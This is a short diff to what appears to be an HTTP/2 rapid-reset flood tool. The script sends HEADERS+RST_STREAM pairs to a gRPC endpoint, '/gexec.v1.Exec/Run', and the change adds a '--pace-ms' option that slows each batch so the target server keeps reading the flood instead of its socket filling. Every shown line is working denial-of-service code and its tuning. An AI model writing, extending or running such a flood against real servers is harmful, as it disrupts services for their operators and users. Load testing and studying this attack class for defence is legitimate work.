@@ -202,6 +202,8 @@ def attack_one(args, index, out):
             c.send(b"".join(pair(stream + 2 * i, block) for i in range(k)))
             stream += 2 * k
             sent += k
+            if args.pace_ms > 0:
+                time.sleep(args.pace_ms / 1000.0)
     except (OSError, ssl.SSLError) as e:
         c.mark_closed(type(e).__name__)
     rep["pairs_sent"] = sent
@@ -232,6 +234,10 @@ def parse_args(argv):
                    help="HEADERS+RST_STREAM pairs per connection")
     p.add_argument("--batch", type=int, default=256,
                    help="pairs per write (default 256)")
+    p.add_argument("--pace-ms", type=float, default=0,
+                   help="pause after each batch (a flood slow enough for "
+                        "the server to read it as it comes: its socket "
+                        "never fills)")
     p.add_argument("--path", default="/gexec.v1.Exec/Run")
     p.add_argument("--authority", help="default: the address")
     p.add_argument("--linger", type=float, default=2.0,
